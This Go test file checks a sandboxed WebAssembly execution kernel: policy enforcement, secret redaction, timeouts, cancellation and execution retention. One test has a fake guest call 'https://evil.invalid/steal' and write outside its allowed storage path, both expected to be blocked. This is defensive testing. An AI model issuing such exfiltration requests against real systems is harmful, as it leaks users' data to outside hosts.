// SPDX-FileCopyrightText: Copyright 2025 Cyfr Works, Inc.
// SPDX-License-Identifier: Apache-2.0

package kernel_test

import (
	"context"
	"encoding/binary"
	"encoding/json"
	"errors"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/cyfrworks/cyfr/pkg/audit"
	"github.com/cyfrworks/cyfr/pkg/authn"
	"github.com/cyfrworks/cyfr/pkg/cyfrerr"
	"github.com/cyfrworks/cyfr/pkg/kernel"
	"github.com/cyfrworks/cyfr/pkg/policy"
	"github.com/cyfrworks/cyfr/pkg/refs"
	"github.com/cyfrworks/cyfr/pkg/registry"
	"github.com/cyfrworks/cyfr/pkg/sandbox"
	"github.com/cyfrworks/cyfr/pkg/secrets"
	"github.com/cyfrworks/cyfr/pkg/storage"
	"github.com/cyfrworks/cyfr/pkg/store"
)

// fakeEngine scripts the sandbox so the kernel's staging can be tested
// without assembling real guests.
type fakeEngine struct {
	invoke func(ctx context.Context, inv sandbox.Invocation) (*sandbox.Result, error)
}

func (e *fakeEngine) Invoke(ctx context.Context, inv sandbox.Invocation) (*sandbox.Result, error) {
	return e.invoke(ctx, inv)
}

func (e *fakeEngine) Close(context.Context) error { return nil }

type fixtures struct {
	store    *store.Store
	adapter  storage.Adapter
	registry *registry.Registry
	policies *policy.Engine
	secrets  *secrets.Manager
	plog     *audit.PolicyLogger
	engine   *fakeEngine
	kernel   *kernel.Kernel
}

func newFixtures(t *testing.T) *fixtures {
	t.Helper()

	st, err := store.Open(context.Background(), store.Options{Path: t.TempDir() + "/cyfr.db"})
	require.NoError(t, err)
	t.Cleanup(func() { _ = st.Close() })

	adapter, err := storage.NewLocalAdapter(t.TempDir())
	require.NoError(t, err)

	cipher, err := secrets.NewCipher("kernel-test-master-key", secrets.MinIterations)
	require.NoError(t, err)

	verifier, err := kernel.NewVerifier(nil)
	require.NoError(t, err)

	f := &fixtures{
		store:    st,
		adapter:  adapter,
		registry: registry.New(st, adapter),
		policies: policy.NewEngine(st),
		secrets:  secrets.NewManager(st, cipher),
		plog:     audit.NewPolicyLogger(st, adapter),
		engine: &fakeEngine{invoke: func(context.Context, sandbox.Invocation) (*sandbox.Result, error) {
			return &sandbox.Result{Output: []byte(`{"ok":true}`)}, nil
		}},
	}
	f.kernel = kernel.New(kernel.Options{
		Store:    st,
		Registry: f.registry,
		Policies: f.policies,
		Secrets:  f.secrets,
		Adapter:  adapter,
		Engine:   f.engine,
		Verifier: verifier,
		Policy:   f.plog,
	})
	return f
}

func userCtx(userID string) context.Context {
	return authn.WithIdentity(context.Background(), &authn.Identity{
		UserID:     userID,
		AuthMethod: authn.MethodSession,
	})
}

// buildWASM assembles a header plus an export section naming functions, the
// minimum the registry accepts.
func buildWASM(exports ...string) []byte {
	module := []byte{0x00, 0x61, 0x73, 0x6d, 0x01, 0x00, 0x00, 0x00}
	if len(exports) == 0 {
		return module
	}
	var payload []byte
	payload = binary.AppendUvarint(payload, uint64(len(exports)))
	for _, name := range exports {
		payload = binary.AppendUvarint(payload, uint64(len(name)))
		payload = append(payload, name...)
		payload = append(payload, 0x00)
		payload = binary.AppendUvarint(payload, 0)
	}
	module = append(module, 0x07)
	module = binary.AppendUvarint(module, uint64(len(payload)))
	return append(module, payload...)
}

func publish(t *testing.T, f *fixtures, typ refs.Type, name string, exports ...string) *store.Component {
	t.Helper()
	component, err := f.registry.PublishBytes(context.Background(), buildWASM(exports...), registry.PublishAttrs{
		Name:    name,
		Version: "1.0.0",
		Type:    typ,
	})
	require.NoError(t, err)
	return component
}

func registryTarget(ref string) kernel.Target {
	return kernel.Target{Kind: kernel.TargetRegistry, Value: ref}
}

func TestRunReagentCompletes(t *testing.T) {
	t.Parallel()

	f := newFixtures(t)
	publish(t, f, refs.TypeReagent, "echo", "run")
	ctx := userCtx("u1")

	result, err := f.kernel.Run(ctx, kernel.RunParams{
		Target: registryTarget("reagent:local.echo:1.0.0"),
		Input:  json.RawMessage(`{"value":1}`),
	})
	require.NoError(t, err)
	assert.Equal(t, store.ExecCompleted, result.Status)
	assert.JSONEq(t, `{"ok":true}`, string(result.Output))
	assert.Equal(t, "reagent:local.echo:1.0.0", result.Reference)

	stored, err := f.kernel.Logs(ctx, result.ExecutionID)
	require.NoError(t, err)
	assert.Equal(t, store.ExecCompleted, stored.Status)
	assert.Equal(t, "u1", stored.UserID)
	assert.NotEmpty(t, stored.InputHash)
	assert.NotEmpty(t, stored.HostPolicy, "policy snapshot is recorded")
	assert.NotNil(t, stored.CompletedAt)
}

func TestRunCatalystWithoutPolicyFailsClosed(t *testing.T) {
	t.Parallel()

	f := newFixtures(t)
	publish(t, f, refs.TypeCatalyst, "fetcher", "run")
	ctx := userCtx("u1")

	_, err := f.kernel.Run(ctx, kernel.RunParams{
		Target: registryTarget("catalyst:local.fetcher:1.0.0"),
		Input:  json.RawMessage(`{}`),
	})
	require.Error(t, err)
	var cerr *cyfrerr.Error
	require.ErrorAs(t, err, &cerr)
	assert.Equal(t, cyfrerr.ErrPolicyRequired, cerr.Type)
	assert.Contains(t, cerr.Message, "POLICY_REQUIRED")

	// The refusal happens before the record stage.
	rows, err := f.kernel.List(ctx, store.ExecutionFilter{UserID: "u1"})
	require.NoError(t, err)
	assert.Empty(t, rows)

	denies, err := f.plog.List(ctx, store.PolicyLogFilter{
		ComponentRef: "catalyst:local.fetcher:1.0.0",
		Decision:     store.DecisionDeny,
	})
	require.NoError(t, err)
	require.Len(t, denies, 1)
}

func TestRunCatalystWithStoredPolicy(t *testing.T) {
	t.Parallel()

	f := newFixtures(t)
	publish(t, f, refs.TypeCatalyst, "fetcher", "run")
	ctx := userCtx("u1")

	ref, err := refs.Parse("catalyst:local.fetcher:1.0.0")
	require.NoError(t, err)
	stored := policy.DefaultFor(refs.TypeCatalyst)
	stored.AllowedDomains = []string{"api.example.com"}
	require.NoError(t, f.policies.Upsert(ctx, ref, stored))

	var limits sandbox.Limits
	f.engine.invoke = func(_ context.Context, inv sandbox.Invocation) (*sandbox.Result, error) {
		limits = inv.Limits
		return &sandbox.Result{Output: []byte(`"done"`)}, nil
	}

	result, err := f.kernel.Run(ctx, kernel.RunParams{
		Target: registryTarget("catalyst:local.fetcher:1.0.0"),
		Input:  json.RawMessage(`{}`),
	})
	require.NoError(t, err)
	assert.Equal(t, store.ExecCompleted, result.Status)
	assert.Equal(t, policy.CatalystTimeout, limits.Timeout)
	assert.Equal(t, int64(policy.DefaultMaxMemoryBytes), limits.MaxMemoryBytes)
}

func TestOutputMaskingScrubsGrantedSecrets(t *testing.T) {
	t.Parallel()

	f := newFixtures(t)
	publish(t, f, refs.TypeReagent, "leaky", "run")
	ctx := userCtx("u1")
	ref := "reagent:local.leaky:1.0.0"

	require.NoError(t, f.secrets.Set(ctx, secrets.ScopePersonal, "u1", "api_key", "sk-supersecret01"))
	require.NoError(t, f.secrets.Grant(ctx, "api_key", ref, secrets.ScopePersonal, "u1"))

	f.engine.invoke = func(context.Context, sandbox.Invocation) (*sandbox.Result, error) {
		return &sandbox.Result{Output: []byte(`{"leaked":"token sk-supersecret01 here"}`)}, nil
	}

	result, err := f.kernel.Run(ctx, kernel.RunParams{
		Target: registryTarget(ref),
		Input:  json.RawMessage(`{}`),
	})
	require.NoError(t, err)
	assert.NotContains(t, string(result.Output), "sk-supersecret01")
	assert.Contains(t, string(result.Output), "[REDACTED]")

	stored, err := f.kernel.Logs(ctx, result.ExecutionID)
	require.NoError(t, err)
	assert.NotContains(t, stored.Output, "sk-supersecret01")
}

func TestRunTimeoutFinalizesFailed(t *testing.T) {
	t.Parallel()

	f := newFixtures(t)
	publish(t, f, refs.TypeReagent, "slow", "run")
	ctx := userCtx("u1")

	f.engine.invoke = func(context.Context, sandbox.Invocation) (*sandbox.Result, error) {
		return &sandbox.Result{}, sandbox.ErrTimeout
	}

	_, err := f.kernel.Run(ctx, kernel.RunParams{
		Target: registryTarget("reagent:local.slow:1.0.0"),
		Input:  json.RawMessage(`{}`),
	})
	var cerr *cyfrerr.Error
	require.ErrorAs(t, err, &cerr)
	assert.Equal(t, cyfrerr.ErrExecutionTimeout, cerr.Type)

	rows, err := f.kernel.List(ctx, store.ExecutionFilter{UserID: "u1"})
	require.NoError(t, err)
	require.Len(t, rows, 1)
	assert.Equal(t, store.ExecFailed, rows[0].Status)
	assert.NotEmpty(t, rows[0].ErrorMessage)
}

func TestCancelRunningExecution(t *testing.T) {
	t.Parallel()

	f := newFixtures(t)
	publish(t, f, refs.TypeReagent, "spinner", "run")
	ctx := userCtx("u1")

	started := make(chan struct{})
	f.engine.invoke = func(invCtx context.Context, _ sandbox.Invocation) (*sandbox.Result, error) {
		close(started)
		<-invCtx.Done()
		return &sandbox.Result{}, sandbox.ErrCanceled
	}

	done := make(chan error, 1)
	go func() {
		_, err := f.kernel.Run(ctx, kernel.RunParams{
			Target: registryTarget("reagent:local.spinner:1.0.0"),
			Input:  json.RawMessage(`{}`),
		})
		done <- err
	}()

	select {
	case <-started:
	case <-time.After(5 * time.Second):
		t.Fatal("guest never started")
	}

	// The record exists before the sandbox is entered.
	var execID string
	require.Eventually(t, func() bool {
		rows, err := f.kernel.List(ctx, store.ExecutionFilter{UserID: "u1"})
		if err != nil || len(rows) == 0 {
			return false
		}
		execID = rows[0].ID
		return true
	}, 5*time.Second, 10*time.Millisecond)

	require.NoError(t, f.kernel.Cancel(ctx, execID))

	select {
	case err := <-done:
		require.Error(t, err)
	case <-time.After(5 * time.Second):
		t.Fatal("run never returned after cancel")
	}

	stored, err := f.kernel.Logs(ctx, execID)
	require.NoError(t, err)
	assert.Equal(t, store.ExecCancelled, stored.Status)

	// Terminal rows never transition again.
	require.ErrorIs(t, f.kernel.Cancel(ctx, execID), store.ErrNotRunning)
}

func TestCancelCompletedIsRejected(t *testing.T) {
	t.Parallel()

	f := newFixtures(t)
	publish(t, f, refs.TypeReagent, "echo", "run")
	ctx := userCtx("u1")

	result, err := f.kernel.Run(ctx, kernel.RunParams{
		Target: registryTarget("reagent:local.echo:1.0.0"),
		Input:  json.RawMessage(`{}`),
	})
	require.NoError(t, err)
	require.ErrorIs(t, f.kernel.Cancel(ctx, result.ExecutionID), store.ErrNotRunning)
}

func TestHostBindingsEnforcePolicy(t *testing.T) {
	t.Parallel()

	f := newFixtures(t)
	publish(t, f, refs.TypeCatalyst, "fetcher", "run")
	ctx := userCtx("u1")

	ref, err := refs.Parse("catalyst:local.fetcher:1.0.0")
	require.NoError(t, err)
	stored := policy.DefaultFor(refs.TypeCatalyst)
	stored.AllowedDomains = []string{"*.example.com"}
	stored.AllowedStoragePaths = []string{"scratch/"}
	require.NoError(t, f.policies.Upsert(ctx, ref, stored))

	type probe struct {
		httpErr    error
		secretErr  error
		writeErr   error
		escapeErr  error
		toolErr    error
		storedData []byte
	}
	var p probe

	f.engine.invoke = func(invCtx context.Context, inv sandbox.Invocation) (*sandbox.Result, error) {
		_, p.httpErr = inv.Host.HTTPRequest(invCtx, sandbox.HTTPRequest{
			Method: "GET", URL: "https://evil.invalid/steal",
		})
		_, p.secretErr = inv.Host.SecretRead(invCtx, "missing_secret")
		p.writeErr = inv.Host.StorageWrite(invCtx, "scratch/out.txt", []byte("ok"))
		p.escapeErr = inv.Host.StorageWrite(invCtx, "private/out.txt", []byte("no"))
		_, p.toolErr = inv.Host.ToolCall(invCtx, "storage", json.RawMessage(`{}`))
		p.storedData, _ = inv.Host.StorageRead(invCtx, "scratch/out.txt")
		return &sandbox.Result{Output: []byte(`null`)}, nil
	}

	_, err = f.kernel.Run(ctx, kernel.RunParams{
		Target: registryTarget("catalyst:local.fetcher:1.0.0"),
		Input:  json.RawMessage(`{}`),
	})
	require.NoError(t, err)

	var hostErr *sandbox.HostError
	require.ErrorAs(t, p.httpErr, &hostErr)
	assert.Equal(t, sandbox.CodePolicyViolation, hostErr.Code)

	require.ErrorAs(t, p.secretErr, &hostErr)
	assert.Equal(t, sandbox.CodeSecretUnavailable, hostErr.Code)

	require.NoError(t, p.writeErr)
	assert.Equal(t, []byte("ok"), p.storedData)

	require.ErrorAs(t, p.escapeErr, &hostErr)
	assert.Equal(t, sandbox.CodePolicyViolation, hostErr.Code)

	// Catalysts never get tool routing, regardless of allowed_tools.
	require.ErrorAs(t, p.toolErr, &hostErr)
	assert.Equal(t, sandbox.CodeCapabilityUnavailable, hostErr.Code)

	// The storage write landed under the calling user's tree.
	data, err := f.adapter.Get(ctx, "scratch", "out.txt")
	require.NoError(t, err)
	assert.Equal(t, []byte("ok"), data)
}

func TestFormulaToolCallReentersRouter(t *testing.T) {
	t.Parallel()

	f := newFixtures(t)
	publish(t, f, refs.TypeFormula, "pipeline", "execute")
	ctx := userCtx("u1")

	ref, err := refs.Parse("formula:local.pipeline:1.0.0")
	require.NoError(t, err)
	stored := policy.DefaultFor(refs.TypeFormula)
	stored.AllowedTools = []string{"storage"}
	require.NoError(t, f.policies.Upsert(ctx, ref, stored))

	var parentSeen string
	f.kernel.SetInvoker(invokerFunc(func(invCtx context.Context, tool string, _ json.RawMessage) (any, error) {
		parentSeen = kernel.ParentExecutionFromContext(invCtx)
		if tool != "storage" {
			return nil, errors.New("unexpected tool")
		}
		return map[string]any{"listed": true}, nil
	}))

	var toolResult json.RawMessage
	var deniedErr error
	f.engine.invoke = func(invCtx context.Context, inv sandbox.Invocation) (*sandbox.Result, error) {
		toolResult, _ = inv.Host.ToolCall(invCtx, "storage", json.RawMessage(`{"action":"list"}`))
		_, deniedErr = inv.Host.ToolCall(invCtx, "secret", json.RawMessage(`{}`))
		return &sandbox.Result{Output: []byte(`null`)}, nil
	}

	result, err := f.kernel.Run(ctx, kernel.RunParams{
		Target: registryTarget("formula:local.pipeline:1.0.0"),
		Input:  json.RawMessage(`{}`),
	})
	require.NoError(t, err)

	assert.JSONEq(t, `{"listed":true}`, string(toolResult))
	assert.Equal(t, result.ExecutionID, parentSeen, "nested calls carry the parent execution")

	var hostErr *sandbox.HostError
	require.ErrorAs(t, deniedErr, &hostErr)
	assert.Equal(t, sandbox.CodePolicyViolation, hostErr.Code, "tools outside allowed_tools are denied")
}

type invokerFunc func(ctx context.Context, tool string, args json.RawMessage) (any, error)

func (fn invokerFunc) Invoke(ctx context.Context, tool string, args json.RawMessage) (any, error) {
	return fn(ctx, tool, args)
}

func TestOCITargetWithoutPuller(t *testing.T) {
	t.Parallel()

	f := newFixtures(t)
	_, err := f.kernel.Run(userCtx("u1"), kernel.RunParams{
		Target: kernel.Target{Kind: kernel.TargetOCI, Value: "ghcr.io/acme/tool:1.0.0"},
		Input:  json.RawMessage(`{}`),
	})
	var cerr *cyfrerr.Error
	require.ErrorAs(t, err, &cerr)
	assert.Equal(t, cyfrerr.ErrExecutionFailed, cerr.Type)
	assert.Contains(t, cerr.Message, "puller")
}

func TestArcaTargetRunsUserArtifact(t *testing.T) {
	t.Parallel()

	f := newFixtures(t)
	ctx := userCtx("u1")
	require.NoError(t, f.adapter.Put(ctx, buildWASM("run"), "uploads", "custom.wasm"))

	result, err := f.kernel.Run(ctx, kernel.RunParams{
		Target: kernel.Target{Kind: kernel.TargetArca, Value: "uploads/custom.wasm"},
		Input:  json.RawMessage(`{}`),
	})
	require.NoError(t, err)
	assert.Equal(t, store.ExecCompleted, result.Status)
	assert.Equal(t, "reagent:arca.custom.wasm:latest", result.Reference)
}

func TestArcaTargetRejectsNonWASM(t *testing.T) {
	t.Parallel()

	f := newFixtures(t)
	ctx := userCtx("u1")
	require.NoError(t, f.adapter.Put(ctx, []byte("not a module"), "uploads", "junk.bin"))

	_, err := f.kernel.Run(ctx, kernel.RunParams{
		Target: kernel.Target{Kind: kernel.TargetArca, Value: "uploads/junk.bin"},
		Input:  json.RawMessage(`{}`),
	})
	var cerr *cyfrerr.Error
	require.ErrorAs(t, err, &cerr)
	assert.Equal(t, cyfrerr.ErrInvalidParams, cerr.Type)
}

func TestLocalTargetRejectsNonCanonicalPath(t *testing.T) {
	t.Parallel()

	f := newFixtures(t)
	_, err := f.kernel.Run(userCtx("u1"), kernel.RunParams{
		Target: kernel.Target{Kind: kernel.TargetLocal, Value: "somewhere/else.wasm"},
		Input:  json.RawMessage(`{}`),
	})
	var cerr *cyfrerr.Error
	require.ErrorAs(t, err, &cerr)
	assert.Equal(t, cyfrerr.ErrComponentNotFound, cerr.Type)
}

func TestRetentionPrunesOldExecutions(t *testing.T) {
	t.Parallel()

	f := newFixtures(t)
	publish(t, f, refs.TypeReagent, "echo", "run")
	ctx := userCtx("u1")

	// A keep of 2 drops the oldest of three runs.
	small := kernel.New(kernel.Options{
		Store:         f.store,
		Registry:      f.registry,
		Policies:      f.policies,
		Secrets:       f.secrets,
		Adapter:       f.adapter,
		Engine:        f.engine,
		Verifier:      mustVerifier(t),
		Policy:        f.plog,
		RetentionKeep: 2,
	})

	for range 3 {
		_, err := small.Run(ctx, kernel.RunParams{
			Target: registryTarget("reagent:local.echo:1.0.0"),
			Input:  json.RawMessage(`{}`),
		})
		require.NoError(t, err)
	}

	rows, err := small.List(ctx, store.ExecutionFilter{UserID: "u1"})
	require.NoError(t, err)
	assert.Len(t, rows, 2)
}

func mustVerifier(t *testing.T) *kernel.Verifier {
	t.Helper()
	v, err := kernel.NewVerifier(nil)
	require.NoError(t, err)
	return v
}
